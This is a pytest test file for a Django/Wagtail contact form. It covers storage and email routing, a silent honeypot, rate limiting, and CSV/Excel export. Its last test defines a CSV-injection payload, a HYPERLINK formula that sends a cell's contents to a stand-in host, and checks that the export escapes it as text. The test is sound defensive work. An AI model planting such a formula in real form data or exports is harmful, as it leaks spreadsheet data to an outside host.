"""The contact form: stored and emailed to the page's address or the site's contact email;
a filled honeypot is dropped without a word; POSTs are rate-limited."""

import pytest

from django.test import override_settings
from django.urls import reverse

from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import Site

from hub.core.models import SiteSettings

pytestmark = pytest.mark.django_db

MESSAGE = {"name": "Ana Example", "email": "ana@example.org", "message": "A question about OPCAT."}


@pytest.fixture
def site_contact_email():
    settings = SiteSettings.for_site(Site.objects.get(is_default_site=True))
    settings.contact_email = "team@example.org"
    settings.save()
    return settings.contact_email


def test_a_message_is_stored_and_sent_to_the_site_contact_email(
    client, contact, site_contact_email, mailoutbox
):
    response = client.post(contact.url, MESSAGE)
    assert response.status_code == 200
    assert "Thank you for your message" in response.content.decode()
    submission = FormSubmission.objects.get(page=contact)
    assert submission.form_data == MESSAGE
    assert len(mailoutbox) == 1
    email = mailoutbox[0]
    assert email.to == [site_contact_email]
    assert email.reply_to == ["ana@example.org"]
    assert "A question about OPCAT." in email.body and "Leave this field" not in email.body


def test_the_page_address_wins_over_the_site_setting(
    client, contact, site_contact_email, mailoutbox
):
    contact.to_address = "desk@example.org, second@example.org"
    contact.subject = "Contact form"
    contact.save_revision().publish()
    client.post(contact.url, MESSAGE)
    assert mailoutbox[0].to == ["desk@example.org", "second@example.org"]
    assert mailoutbox[0].subject == "Contact form"


def test_without_any_address_the_message_is_kept_for_the_admin(client, contact, mailoutbox):
    assert client.post(contact.url, MESSAGE).status_code == 200
    assert FormSubmission.objects.filter(page=contact).count() == 1
    assert mailoutbox == []


def test_a_filled_honeypot_is_dropped_silently(client, contact, site_contact_email, mailoutbox):
    response = client.post(contact.url, {**MESSAGE, "website": "http://spam.example"})
    assert response.status_code == 200
    assert "Thank you for your message" in response.content.decode()
    assert not FormSubmission.objects.filter(page=contact).exists()
    assert mailoutbox == []


def test_the_honeypot_is_hidden_from_people_and_screen_readers(client, contact):
    html = client.get(contact.url).content.decode()
    wrapper = html[html.index('class="hub-form__extra"') - 5 :]
    wrapper = wrapper[: wrapper.index("</div>")]
    assert 'aria-hidden="true"' in wrapper
    assert 'tabindex="-1"' in wrapper and 'autocomplete="off"' in wrapper


def test_a_missing_message_is_explained(client, contact):
    response = client.post(contact.url, {**MESSAGE, "message": ""})
    html = response.content.decode()
    assert "There is a problem with the form" in html
    assert 'href="#id_message"' in html
    assert 'aria-describedby="id_message_error"' in html
    assert "<title>Error:" in html
    assert not FormSubmission.objects.filter(page=contact).exists()


@pytest.mark.parametrize("kind", ["contact", "newsletter"])
def test_posts_to_the_form_pages_are_rate_limited(client, kind, request):
    page = request.getfixturevalue(kind)
    limits = {"search": "", "api": "", "forms": "2/m"}
    with override_settings(HUB_RATE_LIMITS=limits):
        statuses = [client.post(page.url, {}).status_code for _ in range(3)]
        assert statuses == [200, 200, 429]
        limited = client.post(page.url, MESSAGE)
        assert limited.status_code == 429 and int(limited["Retry-After"]) > 0
        # Reading the page is not limited.
        assert client.get(page.url).status_code == 200
    assert not FormSubmission.objects.filter(page=page).exists()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def test_the_submissions_export_writes_formulas_as_text(client, admin_client, contact):
    """CSV injection: a name a spreadsheet would run comes out of the CSV with a leading
    quote (OWASP), and as a text cell in the Excel file; plain answers are unchanged."""
    import csv
    import io

    from openpyxl import load_workbook

    client.post(contact.url, {**MESSAGE, "name": FORMULA, "message": "-2 +3 @home"})
    client.post(contact.url, MESSAGE)
    url = reverse("wagtailforms:list_submissions", args=[contact.pk])
    headers = {"accept-language": "en"}

    response = admin_client.get(url, {"export": "csv"}, headers=headers)
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    names = {row["Your name"]: row for row in rows}
    assert set(names) == {"'" + FORMULA, "Ana Example"}
    assert names["'" + FORMULA]["Message"] == "'-2 +3 @home"
    assert names["Ana Example"]["Message"] == MESSAGE["message"]

    response = admin_client.get(url, {"export": "xlsx"}, headers=headers)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)
